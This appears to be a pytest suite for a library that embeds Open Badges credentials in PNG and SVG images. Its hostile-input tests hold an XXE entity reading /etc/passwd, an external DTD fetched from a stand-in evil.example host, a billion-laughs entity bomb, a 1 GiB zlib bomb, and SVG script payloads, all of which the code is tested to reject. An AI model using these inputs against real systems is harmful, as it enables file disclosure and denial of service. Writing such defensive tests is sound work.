"""microcred.bake: PNG iTXt and SVG baking (SUMMARY section 15, MC-68a/b)."""

from __future__ import annotations

import json
import struct
import time
import xml.etree.ElementTree as StdET
import zlib
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from microcred.bake import (
    OB3_NS,
    BakeError,
    CredentialText,
    NotBakedError,
    OpenBadges2Error,
    bake_png,
    bake_svg,
    credential_text,
    unbake_png,
    unbake_svg,
)

SIG = b"\x89PNG\r\n\x1a\n"
CREDENTIAL = json.dumps(
    {
        "@context": ["https://www.w3.org/ns/credentials/v2"],
        "id": "urn:uuid:4f1c",
        "type": ["VerifiableCredential", "OpenBadgeCredential"],
        "name": "Données — naïve 🎓 <b>&amp;</b>",
    },
    ensure_ascii=False,
    indent=2,
)
JWS = "eyJhbGciOiJFZERTQSJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl"


# ----------------------------------------------------------------- PNG helpers (independent)


def chunk(ctype: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + ctype + data + struct.pack(">I", zlib.crc32(ctype + data))


def make_png(width: int = 2, height: int = 2, extra: list[bytes] | None = None) -> bytes:
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)  # 8-bit RGB
    raw = b"".join(b"\x00" + bytes([200, 30, 30]) * width for _ in range(height))
    middle = b"".join(extra or [])
    return (
        SIG
        + chunk(b"IHDR", ihdr)
        + chunk(b"tIME", b"\x07\xea\x01\x02\x03\x04\x05")
        + middle
        + chunk(b"IDAT", zlib.compress(raw))
        + chunk(b"IEND", b"")
    )


def walk(png: bytes) -> list[tuple[bytes, bytes]]:
    """A chunk walker written for the tests: every CRC must match, IEND must end the file."""
    assert png[:8] == SIG
    pos, out = 8, []
    while pos < len(png):
        (length,) = struct.unpack(">I", png[pos : pos + 4])
        ctype, data = png[pos + 4 : pos + 8], png[pos + 8 : pos + 8 + length]
        (crc,) = struct.unpack(">I", png[pos + 8 + length : pos + 12 + length])
        assert crc == zlib.crc32(ctype + data), ctype
        out.append((ctype, data))
        pos += 12 + length
    assert pos == len(png) and out[-1][0] == b"IEND"
    return out


def itxt(keyword: bytes, text: bytes, flag: int = 0) -> bytes:
    return chunk(b"iTXt", keyword + b"\x00" + bytes([flag, 0]) + b"\x00\x00" + text)


def pixels(png: bytes) -> bytes:
    return zlib.decompress(b"".join(d for t, d in walk(png) if t == b"IDAT"))


# --------------------------------------------------------------------------- PNG bake


def test_png_round_trip_is_byte_exact() -> None:
    baked = bake_png(make_png(), CREDENTIAL)
    assert unbake_png(baked) == CREDENTIAL
    assert unbake_png(bake_png(make_png(), JWS)) == JWS


def test_png_layout_follows_the_spec() -> None:
    original = make_png()
    baked = bake_png(original, CREDENTIAL)
    chunks = walk(baked)
    assert [t for t, _ in chunks] == [b"IHDR", b"iTXt", b"tIME", b"IDAT", b"IEND"]
    keyword, rest = chunks[1][1].split(b"\x00", 1)
    assert keyword == b"openbadgecredential"
    assert rest[0] == 0 and rest[1] == 0  # not compressed, method 0
    language, translated, text = rest[2:].split(b"\x00", 2)
    assert language == b"" and translated == b""
    assert text.decode("utf-8") == CREDENTIAL
    assert list(walk(original)) == [c for c in chunks if c[0] != b"iTXt"]
    assert pixels(baked) == pixels(original)


def test_png_rebake_replaces_never_duplicates() -> None:
    once = bake_png(make_png(), CREDENTIAL)
    twice = bake_png(once, JWS)
    assert sum(1 for t, _ in walk(twice) if t == b"iTXt") == 1
    assert unbake_png(twice) == JWS
    assert bake_png(twice, CREDENTIAL) == once


def test_png_bake_removes_an_ob2_assertion() -> None:
    ob2 = make_png(extra=[itxt(b"openbadges", b'{"type":"Assertion"}')])
    baked = bake_png(ob2, CREDENTIAL)
    assert unbake_png(baked) == CREDENTIAL
    assert all(not d.startswith(b"openbadges\x00") for _, d in walk(baked))


def _flip_idat_byte(png: bytes) -> bytes:
    pos = png.index(b"IDAT") + 6
    return png[:pos] + bytes([png[pos] ^ 0xFF]) + png[pos + 1 :]


CORRUPT_PNGS = {
    "not_png_signature": b"GIF89a" + make_png()[6:],
    "bad_crc_in_idat": _flip_idat_byte(make_png()),
    "truncated_no_iend": make_png()[:-12],
    "cut_mid_chunk": make_png()[:40],
    "trailing_bytes_after_iend": make_png() + b"extra",
    "ihdr_not_first": SIG + chunk(b"tEXt", b"a\x00b") + make_png()[8:],
    "empty": b"",
    "bad_chunk_type": SIG + chunk(b"IH!R", bytes(13)) + chunk(b"IEND", b""),
    "huge_length": SIG + b"\xff\xff\xff\xffIHDR",
}


@pytest.mark.parametrize("case", sorted(CORRUPT_PNGS))
def test_corrupt_png_gives_clear_error(case: str) -> None:
    with pytest.raises(BakeError) as bake_info:
        bake_png(CORRUPT_PNGS[case], CREDENTIAL)
    with pytest.raises(BakeError) as unbake_info:
        unbake_png(CORRUPT_PNGS[case])
    assert "PNG" in bake_info.value.message and "PNG" in unbake_info.value.message


@pytest.mark.parametrize("payload", ["", "   ", "not json", "[1, 2]", '{"a": }', "a.b"])
def test_png_bake_refuses_what_is_not_a_credential(payload: str) -> None:
    with pytest.raises(BakeError):
        bake_png(make_png(), payload)


def test_png_size_cap() -> None:
    with pytest.raises(BakeError):
        unbake_png(bake_png(make_png(), CREDENTIAL), max_bytes=100)


# --------------------------------------------------------------------------- PNG unbake, hostile


def test_mc68a_two_credential_chunks_rejected() -> None:
    two = make_png(
        extra=[itxt(b"openbadgecredential", b'{"a":1}'), itxt(b"openbadgecredential", b'{"a":2}')]
    )
    with pytest.raises(BakeError) as info:
        unbake_png(two)
    assert "2 openbadgecredential" in info.value.message
    assert bake_png(two, CREDENTIAL).count(b"openbadgecredential") == 1  # re-bake cleans up


def test_compressed_itxt_is_inflated_under_a_cap() -> None:
    compressed = make_png(
        extra=[itxt(b"openbadgecredential", zlib.compress(CREDENTIAL.encode()), flag=1)]
    )
    assert unbake_png(compressed) == CREDENTIAL


def test_mc68a_compressed_itxt_bomb_fails_fast() -> None:
    compressor = zlib.compressobj(9)
    first = compressor.compress(bytes(1 << 20)) + compressor.flush(zlib.Z_FULL_FLUSH)
    block = compressor.compress(bytes(1 << 20)) + compressor.flush(zlib.Z_FULL_FLUSH)
    body = first + block * 1023 + compressor.flush()  # 1 GiB inflated (checksum never reached)
    bomb = make_png(extra=[itxt(b"openbadgecredential", body, flag=1)])
    started = time.perf_counter()
    with pytest.raises(BakeError) as info:
        unbake_png(bomb)
    assert time.perf_counter() - started < 2.0
    assert "inflates beyond" in info.value.message


def test_credential_in_text_chunk_is_refused() -> None:
    png = make_png(extra=[chunk(b"tEXt", b"openbadgecredential\x00{}")])
    with pytest.raises(BakeError) as info:
        unbake_png(png)
    assert "not iTXt" in info.value.message


def test_invalid_utf8_text_is_refused() -> None:
    with pytest.raises(BakeError):
        unbake_png(make_png(extra=[itxt(b"openbadgecredential", b'{"a":"\xff"}')]))


@pytest.mark.parametrize(
    "ob2_chunk",
    [
        itxt(b"openbadges", b'{"type":"Assertion"}'),
        chunk(b"tEXt", b"openbadges\x00https://example.org/assertion/1"),
    ],
)
def test_ob2_png_is_recognised(ob2_chunk: bytes) -> None:
    with pytest.raises(OpenBadges2Error) as info:
        unbake_png(make_png(extra=[ob2_chunk]))
    assert "Open Badges 2.0" in info.value.message
    assert info.value.code == "UNSUPPORTED_VERSION"


def test_plain_png_is_not_baked() -> None:
    with pytest.raises(NotBakedError):
        unbake_png(make_png())


# --------------------------------------------------------------------------- SVG

SVG = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    "<!-- badge -->\n"
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" data-x="a > b">\n'
    '  <circle cx="5" cy="5" r="4" fill="#c33"/>\n'
    "</svg>\n"
)


def credential_elements(svg: str) -> list[Any]:
    root = StdET.fromstring(svg.encode("utf-8"))
    return list(root.iter(f"{{{OB3_NS}}}credential"))


@pytest.mark.parametrize(
    "payload",
    [
        CREDENTIAL,
        json.dumps({"a": "x]]>y", "b": "]]]]>>"}),
        '{\r\n  "crlf": "keeps\\r\\n"\r\n}',
        json.dumps({"n": "\u2028 tab\t"}, ensure_ascii=False),
        "{}",
    ],
    ids=["unicode", "cdata_terminator", "raw_crlf", "separators", "empty_object"],
)
def test_svg_round_trip_is_byte_exact(payload: str) -> None:
    baked = bake_svg(SVG, payload)
    assert unbake_svg(baked) == payload
    assert unbake_svg(baked.encode("utf-8")) == payload
    # an independent parser (stdlib ElementTree) reads the same text
    (element,) = credential_elements(baked)
    assert element.text == payload


def test_svg_layout_follows_the_spec() -> None:
    baked = bake_svg(SVG, CREDENTIAL)
    root = StdET.fromstring(baked.encode("utf-8"))
    assert root[0].tag == f"{{{OB3_NS}}}credential"  # the first child of <svg>
    root_tag = baked[baked.index("<svg") : baked.index("<openbadges:credential>")]
    assert root_tag.endswith(' xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0">')
    assert "<svg " in baked and "<openbadges:credential><![CDATA[" in baked
    # everything else is kept byte for byte
    start = baked.index(' xmlns:openbadges="')
    end = baked.index("</openbadges:credential>") + len("</openbadges:credential>")
    element_start = baked.index("<openbadges:credential>")
    stripped = (
        baked[:start]
        + baked[start + len(' xmlns:openbadges="' + OB3_NS + '"') : element_start]
        + baked[end:]
    )
    assert stripped == SVG


def test_svg_rebake_replaces() -> None:
    once = bake_svg(SVG, CREDENTIAL)
    twice = bake_svg(once, JWS)
    assert len(credential_elements(twice)) == 1
    assert unbake_svg(twice) == JWS
    assert bake_svg(twice, CREDENTIAL) == once
    assert twice.count("xmlns:openbadges") == 1


def test_svg_jws_goes_in_verify_attribute() -> None:
    baked = bake_svg(SVG, JWS)
    (element,) = credential_elements(baked)
    assert element.get("verify") == JWS and not element.text


def test_svg_self_closing_root() -> None:
    baked = bake_svg('<svg xmlns="http://www.w3.org/2000/svg" width="1"/>', CREDENTIAL)
    assert baked.endswith("</openbadges:credential></svg>")
    assert unbake_svg(baked) == CREDENTIAL


def test_svg_with_plain_doctype_and_existing_prefix() -> None:
    svg = (
        '<?xml version="1.0"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
        '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
        f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="{OB3_NS}"><g/></svg>'
    )
    baked = bake_svg(svg, CREDENTIAL)
    assert baked.count("xmlns:openbadges") == 1
    assert unbake_svg(baked) == CREDENTIAL


def test_svg_prefix_bound_elsewhere_is_refused() -> None:
    svg = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="http://openbadges.org"/>'
    with pytest.raises(BakeError):
        bake_svg(svg, CREDENTIAL)


@pytest.mark.parametrize(
    "svg",
    [
        '<?xml version="1.0" encoding="ISO-8859-1"?><svg xmlns="http://www.w3.org/2000/svg"/>',
        '<html xmlns="http://www.w3.org/1999/xhtml"/>',
        "<svg xmlns='http://www.w3.org/2000/svg'><g></svg>",
        "",
    ],
    ids=["latin1_declared", "not_svg_root", "not_well_formed", "empty"],
)
def test_svg_bake_refusals(svg: str) -> None:
    with pytest.raises(BakeError):
        bake_svg(svg, CREDENTIAL)


def test_svg_bake_refusals_hold_on_every_call() -> None:
    # a refused image is never remembered as a good one, and a good one changes nothing
    bad = '<html xmlns="http://www.w3.org/1999/xhtml"/>'
    for _ in range(3):
        with pytest.raises(BakeError):
            bake_svg(bad, CREDENTIAL)
        assert unbake_svg(bake_svg(SVG, CREDENTIAL)) == CREDENTIAL
    other = SVG.replace("<svg ", '<svg xmlns:openbadges="https://example.org/x" ')
    with pytest.raises(BakeError, match="binds the 'openbadges' prefix"):
        bake_svg(other, CREDENTIAL)


def test_credential_text_is_the_issue_serialisation_and_bakes_the_same_bytes() -> None:
    document = json.loads(CREDENTIAL) | {"n": [1, 2.5, None, True, {}]}
    text = credential_text(document)
    assert type(text) is CredentialText
    assert text == json.dumps(document, ensure_ascii=False, indent=2) + "\n"
    plain = str(text)  # the same text, checked the long way (parsed back)
    assert bake_png(make_png(), text) == bake_png(make_png(), plain)
    assert bake_svg(SVG, text) == bake_svg(SVG, plain)
    assert unbake_svg(bake_svg(SVG, text)) == plain.strip()  # SVG unbaking trims the text


@pytest.mark.parametrize(
    "document",
    [{"n": float("nan")}, {1: "key not a string"}, {"t": (1, 2)}],
    ids=["nan", "int_key", "tuple"],
)
def test_credential_text_of_unusual_data_is_checked_when_baked(document: Any) -> None:
    text = credential_text(document)
    assert type(text) is str  # not vouched for: baking parses it
    if "nan" in text.lower():
        with pytest.raises(BakeError):
            bake_png(make_png(), text)
    else:
        assert unbake_png(bake_png(make_png(), text)) == text


def test_credential_text_with_a_lone_surrogate_is_refused() -> None:
    with pytest.raises(BakeError, match="surrogate"):
        bake_png(make_png(), credential_text({"name": "\ud800"}))


def test_svg_bake_refuses_characters_xml_cannot_carry() -> None:
    with pytest.raises(BakeError):
        bake_svg(SVG, '{"a": "\ufffe"}')


# --------------------------------------------------------------------------- SVG unbake, hostile

XXE = (
    '<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="{OB3_NS}">'
    "<openbadges:credential>&xxe;</openbadges:credential></svg>"
)
LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY a "hahahahahahaha">'
    + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9))
    + f']>\n<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="{OB3_NS}">'
    "<openbadges:credential>&j;</openbadges:credential></svg>"
)
PARAMETER_ENTITY = (
    '<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>\n'
    '<svg xmlns="http://www.w3.org/2000/svg"/>'
)


@pytest.mark.parametrize(
    "svg", [XXE, LAUGHS, PARAMETER_ENTITY], ids=["xxe", "billion_laughs", "parameter_entity"]
)
def test_mc68b_entities_and_dtd_subsets_refused(svg: str) -> None:
    started = time.perf_counter()
    with pytest.raises(BakeError) as info:
        unbake_svg(svg)
    assert time.perf_counter() - started < 1.0
    assert "XXE" in info.value.message or "entit" in info.value.message
    with pytest.raises(BakeError):
        bake_svg(svg, CREDENTIAL)


def test_mc68b_script_is_ignored_and_credential_extracted() -> None:
    svg = bake_svg(
        '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script>'
        '<a href="javascript:alert(2)"><text>x</text></a></svg>',
        CREDENTIAL,
    )
    assert unbake_svg(svg) == CREDENTIAL


def test_third_party_layout_with_whitespace_and_escapes() -> None:
    svg = (
        f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:ob="{OB3_NS}">\n'
        "  <title>Badge</title>\n"
        '  <ob:credential>\n    {"id": "urn:uuid:1", "name": "a &amp; b"}\n  </ob:credential>\n'
        "</svg>"
    )
    assert json.loads(unbake_svg(svg)) == {"id": "urn:uuid:1", "name": "a & b"}


def test_two_credential_elements_are_refused() -> None:
    """Which one would a reader see? Like the PNG path and the browser verifier (issue 8)."""
    svg = (
        f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="{OB3_NS}">'
        '<g><openbadges:credential verify="a.b.c"/></g>'
        '<openbadges:credential><![CDATA[{"second": true}]]></openbadges:credential></svg>'
    )
    with pytest.raises(BakeError) as info:
        unbake_svg(svg)
    assert "2 <openbadges:credential> elements" in info.value.message
    assert len(credential_elements(bake_svg(svg, CREDENTIAL))) == 1  # baking replaces both


def test_ob2_svg_is_recognised() -> None:
    svg = (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="http://openbadges.org">'
        '<openbadges:assertion verify="https://example.org/assertions/1"/></svg>'
    )
    with pytest.raises(OpenBadges2Error) as info:
        unbake_svg(svg)
    assert "Open Badges 2.0" in info.value.message


@pytest.mark.parametrize(
    ("svg", "error"),
    [
        ('<svg xmlns="http://www.w3.org/2000/svg"><g/></svg>', NotBakedError),
        (
            f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:o="{OB3_NS}">'
            "<o:credential> </o:credential></svg>",
            BakeError,
        ),
        (f'<html xmlns:o="{OB3_NS}"><o:credential>{{}}</o:credential></html>', BakeError),
        ("<svg", BakeError),
        (b"\xff\xfe<\x00", BakeError),
        ('<svg xmlns="http://www.w3.org/2000/svg">\ud800</svg>', BakeError),
        (["<svg/>"], BakeError),
    ],
    ids=[
        "no_credential",
        "empty_element",
        "not_svg",
        "truncated",
        "bad_bytes",
        "surrogate",
        "list",
    ],
)
def test_svg_unbake_refusals(svg: str | bytes, error: type[Exception]) -> None:
    with pytest.raises(error):
        unbake_svg(svg)


def test_svg_size_cap() -> None:
    with pytest.raises(BakeError):
        unbake_svg(bake_svg(SVG, CREDENTIAL), max_bytes=100)
    with pytest.raises(BakeError):
        unbake_svg(bake_svg(SVG, CREDENTIAL), max_text=10)


@pytest.mark.conformance
def test_real_vc_jwt_round_trips_in_svg_and_png(standards: Path) -> None:
    jws = (standards / "examples/1edtech-validator/ob30-simple-vcdm1.jwt").read_text().strip()
    assert unbake_svg(bake_svg(SVG, jws)) == jws
    assert unbake_png(bake_png(make_png(), jws)) == jws


# --------------------------------------------------------------------------- properties

XML_TEXT = st.text(
    alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\ufffe\uffff"),
    max_size=40,
)


@settings(max_examples=150, deadline=None)
@given(st.lists(st.one_of(XML_TEXT, st.sampled_from(["]]>", "]]", "\r", "\r\n", "<![CDATA["]))))
def test_property_any_json_round_trips_in_svg_and_png(pieces: list[str]) -> None:
    value = "".join(pieces)
    for payload in (
        json.dumps({"v": value}, ensure_ascii=False),
        "{\r\n" + json.dumps("k" + value.replace("\r", ""))[:-1] + '"\r: 1}',
    ):
        json.loads(payload)  # the generator makes valid JSON
        assert unbake_svg(bake_svg(SVG, payload)) == payload
        assert unbake_png(bake_png(make_png(), payload)) == payload


def test_element_and_chunk_count_caps_bound_parse_time() -> None:
    many_tags = '<svg xmlns="http://www.w3.org/2000/svg">' + "<a/>" * 60_000 + "</svg>"
    started = time.perf_counter()
    with pytest.raises(BakeError) as info:
        unbake_svg(many_tags)
    assert time.perf_counter() - started < 0.5  # refused before parsing
    assert "tags" in info.value.message
    with pytest.raises(BakeError):
        bake_svg(many_tags, CREDENTIAL)
    many_chunks = make_png(extra=[chunk(b"teXt", b"")] * 50_001)
    with pytest.raises(BakeError) as info:
        unbake_png(many_chunks)
    assert "chunks" in info.value.message
    assert unbake_png(bake_png(make_png(extra=[chunk(b"teXt", b"")] * 1000), "{}")) == "{}"


@pytest.mark.parametrize("encoding", ["klingon", "x-unknown-8"])
def test_svg_declaring_an_unknown_encoding_is_refused_clearly(encoding: str) -> None:
    # QA: expat raised LookupError, which reached the CLI as "internal error".
    svg = f'<?xml version="1.0" encoding="{encoding}"?>{SVG}'
    with pytest.raises(BakeError, match="encoding microcred cannot read"):
        unbake_svg(svg.encode("ascii"))
    with pytest.raises(BakeError, match="encoding"):
        bake_svg(svg, CREDENTIAL)


def test_the_xml_invalid_pattern_is_the_complement_of_the_xml_char_production() -> None:
    """Every code point, against XML 1.0's Char production read as ranges: the pattern finds
    exactly the characters an SVG cannot carry."""
    from microcred.bake.payload import _XML_INVALID_RE

    def xml_char(code: int) -> bool:
        return (
            code in (0x9, 0xA, 0xD)
            or 0x20 <= code <= 0xD7FF
            or 0xE000 <= code <= 0xFFFD
            or 0x10000 <= code <= 0x10FFFF
        )

    every = "".join(map(chr, range(0x110000)))
    found = [match.start() for match in _XML_INVALID_RE.finditer(every)]
    assert found == [code for code in range(0x110000) if not xml_char(code)]
